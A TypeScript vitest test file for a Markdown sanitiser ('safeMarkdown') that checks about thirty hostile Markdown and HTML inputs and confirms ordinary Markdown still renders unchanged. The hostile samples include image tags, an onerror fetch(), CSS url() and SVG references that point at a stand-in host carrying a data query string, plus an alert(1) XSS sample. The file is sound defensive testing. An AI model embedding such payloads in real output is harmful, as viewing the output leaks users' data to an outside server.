import { Marked } from 'marked';
import { describe, expect, it } from 'vitest';
import { fetchesOnOpen, safeMarkdown } from './markdownText';

const EVIL = 'http://127.0.0.1:9/x.png?d=rows';
const PIXEL = 'data:image/png;base64,iVBORw0KGgo=';

/** Every way found to make a Markdown viewer load an image or run markup when the file opens. */
const HOSTILE: Record<string, string> = {
  'inline image': `See ![chart](${EVIL}) here`,
  'brackets in the alt text': `![a [nested] alt](${EVIL})`,
  'parenthesised title': `![x](${EVIL} (a title))`,
  'quoted title': `![x](${EVIL} "t")`,
  'angle-bracket destination': `![x](<${EVIL}>)`,
  'reference image': `![ref]\n\n[ref]: ${EVIL}`,
  'full reference image': `![alt][logo]\n\n[logo]: <${EVIL}> "title"`,
  'collapsed reference image': `![logo][]\n\n[logo]: ${EVIL}`,
  'definition before use, indented': `   [r]: ${EVIL}\n\nText ![r] more`,
  'escaped backticks around an img tag': `\\\`<img src="${EVIL}">\\\``,
  'tildes inline around an img tag': `a ~~~<img src="${EVIL}">~~~ b`,
  'HTML img': `<img src="${EVIL}">`,
  'HTML img with onerror': `<img src=x onerror="fetch('${EVIL}')">`,
  'HTML block': `<div>\n<img src="${EVIL}">\n</div>`,
  'picture and source': `<picture><source srcset="${EVIL}"></picture>`,
  'style with url()': `<style>body{background:url(${EVIL})}</style>`,
  'svg image': `<svg><image href="${EVIL}"/></svg>`,
  'image inside a link': `[![badge](${EVIL})](https://example.com)`,
  'image in a list': `- one\n- ![x](${EVIL})\n  - nested ![y](${EVIL})`,
  'image in a quote': `> quoted ![x](${EVIL})\n> > deeper <img src=${EVIL}>`,
  'image in a table': `| a | b |\n| --- | --- |\n| ![x](${EVIL}) | <img src=${EVIL}> |`,
  'image in emphasis and strikethrough': `**bold ![x](${EVIL})** ~~![y](${EVIL})~~`,
  'bang before a link-ified image': `!![x](${EVIL})`,
  'image in a heading': `# Title ![x](${EVIL})`,
  'autolink and bare URL next to an image': `<${EVIL}> ${EVIL} ![i](${EVIL})`,
  'HTML comment hiding nothing': `<!-- <img src="${EVIL}"> -->`,
  'image in a task list': `- [x] done ![x](${EVIL})`,
  'entity-encoded URL': `![x](http&#58;//127.0.0.1:9/e.png)`,
  'protocol-relative image': `![x](//127.0.0.1:9/p.png)`,
  'SVG data image with a reference': `![x](data:image/svg+xml,${encodeURIComponent(`<svg><image href="${EVIL}"/></svg>`)})`,
};

const marked = new Marked({ gfm: true });

describe('safeMarkdown against hostile Markdown', () => {
  for (const [name, source] of Object.entries(HOSTILE)) {
    it(name, () => {
      expect(fetchesOnOpen(source)).toBe(true);
      const out = safeMarkdown(source);
      expect(fetchesOnOpen(out)).toBe(false);
      // What a viewer would put in the page: no element that loads anything.
      expect(marked.parse(out) as string).not.toMatch(/<(img|picture|source|svg|image|style|script|iframe)\b/i);
      // Stable: exporting an exported text again changes nothing.
      expect(safeMarkdown(out)).toBe(out);
    });
  }

  it('writes remote images as links with their target', () => {
    expect(safeMarkdown(`See ![chart](${EVIL} "t") and ![ref]\n\n[ref]: ${EVIL}`)).toBe(`See [chart](<${EVIL}> "t") and [ref](<${EVIL}>)`);
    expect(safeMarkdown('<b>hi</b> <img src=x onerror=alert(1)>')).toBe('&lt;b>hi&lt;/b> &lt;img src=x onerror=alert(1)>');
    expect(safeMarkdown(`!![x](${EVIL})`)).toBe(`\\![x](<${EVIL}>)`);
  });

  it('keeps inline data images', () => {
    expect(safeMarkdown(`![dot](${PIXEL})`)).toBe(`![dot](<${PIXEL}>)`);
    expect(fetchesOnOpen(safeMarkdown(`![dot](${PIXEL})`))).toBe(false);
  });
});

/** Ordinary answers: what a viewer shows must not change. */
const ORDINARY = [
  '**Gentoo** penguins are the heaviest (mean 5,076 g), *Adelie* and _Chinstrap_ are close.',
  '## Findings\n\n1. Mass rises with flipper length\n2. Gentoo are heavier\n   - by about 1.4 kg\n\n- [x] checked\n- [ ] open',
  'Use `SELECT count(*) FROM penguins` and `` a`b ``.\n\n```sql\nSELECT 1;\n```\n\n~~~python\nprint("x ``` y")\n~~~',
  '| species | mass |\n| :--- | ---: |\n| Adelie | 3,700 |\n| a \\| b | `x|y` |',
  '> A quote\n> with two lines\n>\n> and a paragraph',
  'A comparison: 1 < 2 and 3 > 2, a & b, 5 * 3.\n\n---\n\nSee [DuckDB](https://duckdb.org/docs "docs") or <https://example.com>.',
  'Line one  \nline two\\\nline three ~~gone~~',
  'Prices like $5 and $10, math $$\\bar{x} = \\frac{1}{n}$$ and \\*literal stars\\*.',
  'Setext heading\n==============\n\nText',
];

describe('safeMarkdown keeps ordinary Markdown', () => {
  it('keeps a heading and its text on consecutive lines', () => {
    expect(safeMarkdown('# Penguins\nA look.')).toBe('# Penguins\nA look.');
  });

  for (const source of ORDINARY) {
    it(source.slice(0, 40), () => {
      const out = safeMarkdown(source);
      expect(marked.parse(out)).toBe(marked.parse(source));
    });
  }
});
